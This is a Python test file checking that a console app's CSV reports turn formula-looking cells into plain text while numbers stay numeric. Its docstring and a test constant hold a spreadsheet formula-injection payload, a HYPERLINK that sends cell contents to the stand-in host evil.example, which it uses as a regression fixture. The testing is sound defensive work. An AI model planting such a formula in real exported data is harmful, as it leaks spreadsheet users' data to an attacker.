"""Every CSV the console writes shows formula-looking text as text; numbers stay numbers.

Found as: a customer named ``=HYPERLINK("http://evil.example/?"&A1,"click")`` went into the
report CSV raw, so opening the CSV in a spreadsheet ran it.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from sqlite_utils import Database

from console.cli import main
from db.report_queries import build_report
from reports import csv_cells
from reports.report_csv import detail_csv, summary_csv
from tests.report_fixtures import NOW, seed_mix

DAY = date(2026, 11, 22)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [
    "=1+1", "+358 40 123", "-2+3", "@SUM(A1:A3)", "\tcalc", "\rcalc", HOSTILE,
])
def test_formula_starts_become_text(text: str) -> None:
    assert csv_cells.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [
    12, -5, Decimal("-12.50"), "12.50", "-12.50", "0", "", None, "Liisa", "王小明",
    "a=b", "2026-11-22",
])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert csv_cells.neutralise(value) == value


def test_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    csv_cells.writer(out, lineterminator="\n").writerow([HOSTILE, -3, "-3.50", "@x"])
    assert next(csv.reader([out.getvalue().strip()])) == ["'" + HOSTILE, "-3", "-3.50", "'@x"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_report_csv_neutralises_a_hostile_customer_name(
    fresh_db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    seed_mix(fresh_db, DAY)
    fresh_db.execute("UPDATE customers SET name = ? WHERE name = 'Eva'", [HOSTILE])
    fresh_db.execute("UPDATE staff SET name = '@Sanna' WHERE name = 'Sanna'")
    data = build_report(fresh_db, DAY - timedelta(days=6), DAY, actor=None, now=NOW)
    detail = _rows(detail_csv(data))
    header, body = detail[0], detail[1:]
    names = {r[header.index("Customer")] for r in body}
    assert "'" + HOSTILE in names and HOSTILE not in names
    assert not [cell for row in detail for cell in row
                if cell[:1] in ("=", "+", "@", "\t", "\r")]
    values = [r[header.index("Value")] for r in body]
    assert all(Decimal(v) >= 0 for v in values)  # amounts still parse as numbers
    summary = _rows(summary_csv(data))
    assert any(row[1] == "'@Sanna" for row in summary)
    assert not [cell for row in summary for cell in row
                if cell[:1] in ("=", "+", "@", "\t", "\r")]

    # and the same through `counterpart report --csv`, as a manager would get it
    path = tmp_path / "shop.sqlite"
    fresh_db.execute("VACUUM INTO ?", [str(path)])
    out = tmp_path / "day.csv"
    assert main(["report", "--db", str(path), "--from", (DAY - timedelta(days=6)).isoformat(),
                 "--to", DAY.isoformat(), "--out", str(tmp_path / "day.pdf"),
                 "--csv", str(out)]) == 0
    written = _rows(out.read_bytes().decode("utf-8-sig"))
    cells = {cell for row in written for cell in row}
    assert "'" + HOSTILE in cells and HOSTILE not in cells
